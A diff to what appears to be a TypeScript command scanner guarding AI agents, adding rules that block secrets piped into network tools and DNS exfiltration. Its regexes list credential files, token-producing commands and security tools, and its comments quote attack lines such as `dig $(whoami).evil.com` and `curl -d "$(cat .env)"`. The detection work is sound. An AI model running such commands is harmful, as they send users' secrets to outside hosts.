@@ -9,6 +9,7 @@ import { SHELLS, INTERPRETERS } from "../normalize.js";
 /** Files that are not credentials by path but are sensitive to ship off-box. */
 const SOFT_SECRET = /(?:^|\/)(?:[^/]{0,40}(?:secret|passw(?:or)?d|credential|token|private)[^/]{0,40}|[^/]{1,60}\.(?:pem|key|p12|pfx|jks|kdbx|keystore)|CLAUDE\.md|AGENTS\.md|\.mcp\.json|\.cursorrules|\.windsurfrules|\.claude\/[^/]{1,80}|\.cursor\/[^/]{1,80}|\.env(?:\.[a-z]{1,12})?)$/i;
 const TOKEN_PRODUCER = /^(?:az account get-access-token|gcloud auth print-(?:access|identity)-token|gh auth token|aws (?:sts get-session-token|ecr get-login-password|configure export-credentials)|vault (?:read|kv get)|op (?:read|item get)|bw get|kubectl get secrets?|security find-(?:generic|internet)-password|secret-tool lookup|pass show|doppler secrets|infisical secrets|sops -d|sops --decrypt)/;
+const DNS_TOOLS: ReadonlySet<string> = new Set(["dig", "nslookup", "host", "drill", "ping", "ping6", "curl", "wget", "nc"]);
 const PROCESS_OF_INTEREST = /(?:agentshield|crowdstrike|falcon|falco|sentinel|\bedr\b|guardrail|auditd|osquery|wazuh|sysmon|defender|claude|autogpt|crewai|langchain|autogen|openai|anthropic|copilot|cursor|codex|aider)/i;
 const SECRET_WORD = /(?:pass(?:word|wd)?|secret|token|api[_-]?key|credential|private|aws_secret)/i;
 
@@ -75,6 +76,16 @@ export function dataflow(ctx: Ctx): void {
     if (shell !== undefined && net !== undefined)
       addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.shell-to-network", decision: "block", taxonomy: "unauthorized-execution/remote-code/reverse-shell", description: "interactive shell piped to a network tool", cmd: ctx.parsed.cmds[shell] as SimpleCmd });
   }
+  // `curl -d "$(cat .env)" …`, `wget --post-data="$(env)"`: a substitution feeding a network
+  // command's arguments carries whatever it read. `dig $(whoami).evil.com`: data in DNS names.
+  ctx.parsed.cmds.forEach((net, i) => {
+    if (!isNet(ctx, i)) return;
+    const inner = ctx.parsed.cmds.filter((c) => c.depth > net.depth && c.via.includes("$()") && c.span.start >= net.span.start && c.span.end <= net.span.end);
+    if (inner.some((c) => readsSecret(c) !== undefined))
+      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.secret-to-network", decision: "block", taxonomy: "data-exfiltration/network-egress/network-http-request", description: `command output with secrets is sent by '${net.exe}'`, cmd: net });
+    if (DNS_TOOLS.has(net.exe) && net.dynamicArgs && net.args.some((a) => /\$\(|`/.test(a) && /\.[a-z]{2,}/i.test(a)))
+      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.dns-exfil", decision: "block", taxonomy: "data-exfiltration/covert-channel/dns-exfiltration", description: "command output encoded into a DNS query", cmd: net });
+  });
   // `bash -c "$(curl …)"`, `eval "$(wget -O- …)"`, `python3 -c "$(curl …)"`.
   for (const c of ctx.parsed.cmds) {
     if ((SHELLS.has(c.exe) || INTERPRETERS.has(c.exe) || c.exe === "eval" || c.exe === "source" || c.exe === ".") && c.args.some((a) => /\$\((?:[^)]{0,40}\/)?(?:curl|wget|fetch)\b|`(?:curl|wget)\b|<\(\s{0,4}(?:curl|wget)\b/.test(a)))
